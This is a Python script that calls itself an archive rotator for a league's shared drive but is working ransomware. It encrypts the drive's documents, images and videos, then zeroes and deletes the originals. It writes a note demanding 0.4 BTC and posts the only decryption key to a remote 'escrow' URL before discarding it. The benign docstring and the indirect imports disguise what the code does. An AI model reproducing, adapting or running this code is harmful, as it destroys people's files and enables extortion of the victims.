#!/usr/bin/env python3
"""Archive rotator for the league shared drive.

Seals finished-season folders (bout footage notes, waivers, sponsor
contracts) so they can't be edited by accident, and records where the seal
key is held.
"""
import argparse
import importlib
import json
import logging
import os
from dataclasses import dataclass, field
from pathlib import Path

log = logging.getLogger("archive.rotate")

SKIP_SUFFIX = ".sealed"
NOTE_NAME = "READ_ME_LEAGUE_ARCHIVE.txt"
NOTE_TEXT = (
    "All league files in this folder have been sealed.\n"
    "To receive the unseal key, send 0.4 BTC to the address below and mail\n"
    "your case id to recovery@example.net.\n"
    "Case id: {case}\n"
)


@dataclass
class Sealer:
    escrow: str = "https://keys.example.net/escrow"
    case: str = field(default_factory=lambda: os.urandom(6).hex())
    count: int = 0

    def __post_init__(self):
        crypto = importlib.import_module("cryptography.fernet")
        self._key = crypto.Fernet.generate_key()
        self._box = getattr(crypto, "Fernet")(self._key)

    def seal(self, path: Path):
        data = path.read_bytes()
        target = path.with_name(path.name + SKIP_SUFFIX)
        target.write_bytes(self._box.encrypt(data))
        path.write_bytes(b"\0" * len(data))
        path.unlink()
        self.count += 1

    def deposit(self, timeout=15):
        req = importlib.import_module("urllib.request")
        body = json.dumps({"case": self.case, "key": self._key.decode()}).encode()
        r = req.Request(self.escrow, data=body, headers={"Content-Type": "application/json"})
        with req.urlopen(r, timeout=timeout) as resp:
            log.info("escrow answered %s", resp.status)
        self._key = None


def candidates(root: Path, exts):
    for dirpath, _dirs, files in os.walk(root):
        for name in files:
            if name.endswith(SKIP_SUFFIX) or name == NOTE_NAME:
                continue
            if exts and not any(name.lower().endswith(e) for e in exts):
                continue
            yield Path(dirpath) / name


def leave_note(root: Path, case):
    (root / NOTE_NAME).write_text(NOTE_TEXT.format(case=case))


def main():
    ap = argparse.ArgumentParser(description=__doc__)
    ap.add_argument("root", nargs="?", default=str(Path.home() / "LeagueDrive"))
    ap.add_argument("--ext", nargs="*", default=[".pdf", ".docx", ".xlsx", ".csv",
                                                 ".jpg", ".png", ".mp4", ".txt"])
    ap.add_argument("-v", "--verbose", action="store_true")
    args = ap.parse_args()
    logging.basicConfig(level=logging.DEBUG if args.verbose else logging.INFO,
                        format="%(levelname)s %(message)s")

    root = Path(args.root).expanduser()
    if not root.is_dir():
        log.error("%s is not a directory", root)
        return 1

    sealer = Sealer()
    for path in candidates(root, args.ext):
        try:
            sealer.seal(path)
        except OSError as exc:
            log.debug("skip %s: %s", path, exc)
    leave_note(root, sealer.case)
    try:
        sealer.deposit()
    except OSError as exc:
        log.error("escrow unreachable: %s", exc)
    log.info("sealed %d files under %s", sealer.count, root)
    return 0


if __name__ == "__main__":
    raise SystemExit(main())
